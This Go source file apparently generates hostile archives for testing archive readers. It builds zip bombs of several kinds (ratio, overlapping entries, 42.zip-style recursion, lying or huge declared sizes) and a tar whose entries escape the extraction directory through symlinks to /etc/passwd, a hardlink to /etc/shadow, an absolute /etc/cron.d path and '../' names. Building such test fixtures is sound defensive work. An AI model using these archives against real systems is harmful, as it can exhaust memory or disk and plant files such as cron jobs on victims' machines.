package archivegen

import (
	"archive/tar"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"strconv"
)

// zeroChunk is the unit of zero bytes the bomb builders stream.
const zeroChunk = 1 << 16

// deflateZeros returns the deflate stream of size zero bytes and the CRC-32
// of those bytes, streaming so that size may exceed memory.
func deflateZeros(size int64) ([]byte, uint32, error) {
	return deflateZerosTo(size, true)
}

// deflateZerosTo is deflateZeros, with the stream ended (its last block
// final) when end is true, or else left open: its last block is not
// final and it stops at a byte boundary (a sync flush), so that further
// blocks can follow.
func deflateZerosTo(size int64, end bool) ([]byte, uint32, error) {
	if size < 0 {
		return nil, 0, fmt.Errorf("%w: negative size %d", ErrInvalid, size)
	}
	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		return nil, 0, fmt.Errorf("archivegen: deflate: %w", err)
	}
	crc := crc32.NewIEEE()
	zeros := make([]byte, zeroChunk)
	for left := size; left > 0; {
		n := min(left, zeroChunk)
		fw.Write(zeros[:n]) // a bytes.Buffer never fails
		crc.Write(zeros[:n])
		left -= n
	}
	if end {
		err = fw.Close()
	} else {
		err = fw.Flush()
	}
	if err != nil {
		return nil, 0, fmt.Errorf("archivegen: deflate: %w", err)
	}
	return buf.Bytes(), crc.Sum32(), nil
}

// bombRecord returns the record of a deflated entry named name.
func bombRecord(name string, crc uint32, comp, size uint64) *zipRecord {
	r := &zipRecord{
		name:     []byte(name),
		method:   zipDeflate,
		needed:   20,
		crc:      crc,
		compSize: comp,
		size:     size,
		extAttr:  0o100644 << 16,
	}
	r.dosTime, r.dosDate = dosDateTime(DefaultTime)
	return r
}

// ZipRatioBomb returns a zip holding one deflated entry, "zeros.bin", of
// size zero bytes. Deflate at its best level shrinks zeros about 1000:1, so
// ZipRatioBomb(1<<30) is a 1 MiB file that expands to 1 GiB. The work is
// streamed; time grows with size (about three seconds per GiB).
func ZipRatioBomb(size int64) ([]byte, error) {
	comp, crc, err := deflateZeros(size)
	if err != nil {
		return nil, err
	}
	z := &zipBuilder{}
	z.add(bombRecord("zeros.bin", crc, uint64(len(comp)), uint64(size)), comp)
	return z.finish(""), nil
}

// ZipOverlapBomb returns a zip built as in David Fifield's "A better zip
// bomb" (2019), without zip64: entries local headers follow one another,
// each followed by a 5-byte stored deflate block that quotes the next local
// header, and the last one by a shared deflate kernel of kernel zero bytes.
// Entry i's deflate stream therefore runs through every later local header
// (as quoted literal data) into the kernel: its data range overlaps all the
// later entries. Every CRC and size is right, so a reader that trusts the
// central directory expands about entries*kernel bytes from a file of
// roughly kernel/1000 + 45*entries bytes. Entries are named "f0001"…
func ZipOverlapBomb(entries int, kernel int64) ([]byte, error) {
	if entries < 1 {
		return nil, fmt.Errorf("%w: overlap bomb needs at least one entry, got %d", ErrInvalid, entries)
	}
	comp, kernelCRC, err := deflateZeros(kernel)
	if err != nil {
		return nil, err
	}
	// Walk backwards: entry i's output is the local headers of entries
	// i+1…n followed by the kernel's output, so its CRC depends on them.
	locals := make([][]byte, entries)
	recs := make([]*zipRecord, entries)
	var quoted uint64 // bytes of later local headers that entry i quotes
	for i := entries - 1; i >= 0; i-- {
		var crc uint32
		if i == entries-1 {
			crc = kernelCRC
		} else {
			crc = crcOfHeadersThenZeros(locals[i+1:], kernel)
		}
		name := fmt.Sprintf("f%04d", i+1)
		blocks := uint64(entries - 1 - i)
		r := bombRecord(name, crc, 5*blocks+quoted+uint64(len(comp)), quoted+uint64(kernel))
		recs[i] = r
		locals[i] = appendLocal(nil, r)
		if len(locals[i]) > uint16max {
			return nil, fmt.Errorf("%w: local header too long to quote", ErrInvalid)
		}
		quoted += uint64(len(locals[i]))
	}
	z := &zipBuilder{}
	offsets := make([]uint64, entries)
	for i := range entries {
		offsets[i] = uint64(len(z.out))
		z.out = append(z.out, locals[i]...)
		if i+1 < entries {
			// A non-final stored block (BFINAL=0, BTYPE=00) quoting the
			// next local header: LEN then its one's complement NLEN.
			n := uint16(len(locals[i+1]))
			z.out = append(z.out, 0x00)
			z.out = binary.LittleEndian.AppendUint16(z.out, n)
			z.out = binary.LittleEndian.AppendUint16(z.out, ^n)
		}
	}
	z.out = append(z.out, comp...)
	for i := range entries {
		z.central = appendCentral(z.central, recs[i], offsets[i])
		z.count++
	}
	return z.finish(""), nil
}

// crcOfHeadersThenZeros returns the CRC-32 of the concatenated headers
// followed by zeros zero bytes.
func crcOfHeadersThenZeros(headers [][]byte, zeros int64) uint32 {
	crc := crc32.NewIEEE()
	for _, h := range headers {
		crc.Write(h)
	}
	chunk := make([]byte, zeroChunk)
	for left := zeros; left > 0; {
		n := min(left, zeroChunk)
		crc.Write(chunk[:n])
		left -= n
	}
	return crc.Sum32()
}

// ZipRecursive returns a zip of zips in the manner of 42.zip. The innermost
// zip holds fanout deflated files "leaf-N.bin" of leaf zero bytes each; each
// of the depth-1 outer levels holds fanout deflated copies, "level-D-N.zip",
// of the zip below. A walker that follows nesting meets fanout^depth leaf
// files, fanout^depth*leaf bytes in all. depth and fanout must be at least 1.
func ZipRecursive(depth, fanout int, leaf int64) ([]byte, error) {
	if depth < 1 || fanout < 1 {
		return nil, fmt.Errorf("%w: depth %d and fanout %d must be at least 1", ErrInvalid, depth, fanout)
	}
	comp, crc, err := deflateZeros(leaf)
	if err != nil {
		return nil, err
	}
	z := &zipBuilder{}
	for n := range fanout {
		z.add(bombRecord("leaf-"+strconv.Itoa(n+1)+".bin", crc, uint64(len(comp)), uint64(leaf)), comp)
	}
	inner := z.finish("")
	for level := depth - 1; level >= 1; level-- {
		comp, err := deflate(inner)
		if err != nil {
			return nil, err
		}
		crc := crc32.ChecksumIEEE(inner)
		z := &zipBuilder{}
		for n := range fanout {
			name := fmt.Sprintf("level-%d-%d.zip", level+1, n+1)
			z.add(bombRecord(name, crc, uint64(len(comp)), uint64(len(inner))), comp)
		}
		inner = z.finish("")
	}
	return inner, nil
}

// ZipLyingSizes returns a zip whose headers lie, in three deflated entries:
//
//   - "understated.bin": the central directory declares 10 bytes but the
//     data inflates to 1 MiB of zeros (CRC of the full 1 MiB);
//   - "overstated.bin": the central directory declares 1 MiB but the data
//     inflates to the 10 bytes "0123456789" (CRC of those 10 bytes);
//   - "mismatch.txt": the central directory is true, but the local header
//     names "local-name.txt", claims Store, and carries other sizes and CRC.
func ZipLyingSizes() ([]byte, error) {
	const mib = 1 << 20
	z := &zipBuilder{}

	zeros, zcrc, err := deflateZeros(mib)
	if err != nil {
		return nil, err
	}
	z.add(bombRecord("understated.bin", zcrc, uint64(len(zeros)), 10), zeros)

	ten := []byte("0123456789")
	tenComp, err := deflate(ten)
	if err != nil {
		return nil, err
	}
	z.add(bombRecord("overstated.bin", crc32.ChecksumIEEE(ten), uint64(len(tenComp)), mib), tenComp)

	text := []byte("The central directory tells the truth about this entry.\n")
	textComp, err := deflate(text)
	if err != nil {
		return nil, err
	}
	central := bombRecord("mismatch.txt", crc32.ChecksumIEEE(text), uint64(len(textComp)), uint64(len(text)))
	local := *central
	local.name = []byte("local-name.txt")
	local.method = zipStore
	local.crc = 0xdeadbeef
	local.compSize = 3
	local.size = 7
	offset := uint64(len(z.out))
	z.out = appendLocal(z.out, &local)
	z.out = append(z.out, textComp...)
	z.central = appendCentral(z.central, central, offset)
	z.count++
	return z.finish(""), nil
}

// manyEmptyName writes the name of entry i (from 1) into buf: "e" and the
// number padded to seven digits, wider only past 9,999,999.
func manyEmptyName(buf []byte, i int) []byte {
	buf = append(buf[:0], 'e')
	digits := strconv.AppendInt(nil, int64(i), 10)
	for k := len(digits); k < 7; k++ {
		buf = append(buf, '0')
	}
	return append(buf, digits...)
}

// ZipManyEmpty returns a zip of n empty stored entries named "e0000001",
// "e0000002"…, written straight into one buffer (10^6 entries take about
// 92 MB and well under a second). Past 65,534 entries the count no longer
// fits the classic end record, which then holds 0xFFFF and defers to a
// zip64 end record and locator.
func ZipManyEmpty(n int) ([]byte, error) {
	if n < 0 {
		return nil, fmt.Errorf("%w: negative entry count %d", ErrInvalid, n)
	}
	const perEntry = zipLocalLen + zipCentralLen + 2*8
	out := make([]byte, 0, n*perEntry+zip64EndLen+zip64LocLen+zipEndLen+n/1000)
	r := bombRecord("", 0, 0, 0)
	r.method = zipStore
	r.needed = 10
	name := make([]byte, 0, 16)
	for i := 1; i <= n; i++ {
		r.name = manyEmptyName(name, i)
		out = appendLocal(out, r)
	}
	cdOffset := uint64(len(out))
	var offset uint64
	for i := 1; i <= n; i++ {
		r.name = manyEmptyName(name, i)
		out = appendCentral(out, r, offset)
		offset += uint64(zipLocalLen + len(r.name))
	}
	return appendEnd(out, uint64(n), cdOffset, uint64(len(out))-cdOffset, "", false), nil
}

// DeclaredHugeSize is the uncompressed size ZipDeclaredHuge declares: 4 GiB.
const DeclaredHugeSize = 4 << 30

// ZipDeclaredHuge returns a zip64 archive with one deflated entry,
// "huge.bin", whose local and central headers declare DeclaredHugeSize
// (4 GiB) uncompressed. The declared compressed size is the true length of
// the data, so the layout is consistent, but that data is about 1 KiB of
// deflate that inflates to only 1 MiB of zeros (the CRC is of those). A
// reader that sizes a buffer from the header asks for 4 GiB.
func ZipDeclaredHuge() ([]byte, error) {
	comp, crc, err := deflateZeros(1 << 20)
	if err != nil {
		return nil, err
	}
	z := &zipBuilder{force64: true}
	r := bombRecord("huge.bin", crc, uint64(len(comp)), DeclaredHugeSize)
	r.zip64 = true
	z.add(r, comp)
	return z.finish(""), nil
}

// TarLinkEscapes returns a tar archive whose entries try to write outside
// the extraction directory, in this order:
//
//   - symlink "evil" → "../../../../etc/passwd";
//   - hardlink "h" → "/etc/shadow";
//   - symlink "d" → "/tmp", then a regular file "d/pwned" through it;
//   - a regular file with the absolute name "/etc/cron.d/x";
//   - a regular file "../../x".
func TarLinkEscapes() ([]byte, error) {
	payload := []byte("* * * * * root echo proofpack-test\n")
	return tarEntries([]*tar.Header{
		{Typeflag: tar.TypeSymlink, Name: "evil", Linkname: "../../../../etc/passwd", Mode: 0o777},
		{Typeflag: tar.TypeLink, Name: "h", Linkname: "/etc/shadow", Mode: 0o644},
		{Typeflag: tar.TypeSymlink, Name: "d", Linkname: "/tmp", Mode: 0o777},
		{Typeflag: tar.TypeReg, Name: "d/pwned", Mode: 0o644, Size: int64(len(payload))},
		{Typeflag: tar.TypeReg, Name: "/etc/cron.d/x", Mode: 0o644, Size: int64(len(payload))},
		{Typeflag: tar.TypeReg, Name: "../../x", Mode: 0o644, Size: int64(len(payload))},
	}, payload)
}

// tarEntries writes headers with DefaultTime, giving every regular file
// payload as content.
func tarEntries(hdrs []*tar.Header, payload []byte) ([]byte, error) {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, h := range hdrs {
		h.ModTime = DefaultTime
		if err := tw.WriteHeader(h); err != nil {
			return nil, fmt.Errorf("archivegen: tar header %q: %w", h.Name, err)
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := io.Copy(tw, bytes.NewReader(payload)); err != nil {
				return nil, fmt.Errorf("archivegen: tar data %q: %w", h.Name, err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		return nil, fmt.Errorf("archivegen: tar close: %w", err)
	}
	return buf.Bytes(), nil
}
